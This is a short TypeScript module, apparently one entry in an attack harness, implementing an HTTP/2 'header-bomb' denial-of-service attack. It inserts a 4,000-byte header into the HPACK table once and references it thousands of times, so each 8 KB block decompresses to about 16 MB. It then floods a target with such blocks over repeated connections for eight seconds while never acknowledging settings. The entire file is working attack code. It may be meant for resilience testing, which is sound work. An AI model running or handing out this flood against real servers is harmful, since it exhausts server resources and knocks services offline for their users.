import { Buffer } from 'node:buffer';
import type { Attack } from './attack.ts';
import { dial, frame, GET, preface, put } from './wire.ts';

/** One header of 4000 bytes, put into the table once and named 4000 times in a byte each. */
const BOMB = Buffer.concat([
  GET,
  Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]),
  Buffer.alloc(4_000, 'x'),
  Buffer.alloc(4_000, 0xbe),
]);
const SECONDS = 8;

export const attack: Attack = {
  name: 'header-bomb',
  what: 'header blocks of 8 KB that unpack to 16 MB, settings never acknowledged',
  async run(target, signal) {
    let blocks = 0;
    let connections = 0;
    const end = Date.now() + SECONDS * 1_000;
    while (Date.now() < end && !signal.aborted) {
      const socket = await dial(target, 'h2');
      socket.resume();
      connections += 1;
      await put(socket, preface());
      for (let stream = 1; Date.now() < end && (await put(socket, frame(0x01, stream, BOMB, 0x05))); stream += 2) {
        blocks += 1;
        await new Promise((resolve) => void setImmediate(resolve));
      }
      socket.destroy();
    }
    return `${blocks} blocks over ${connections} connections`;
  },
};
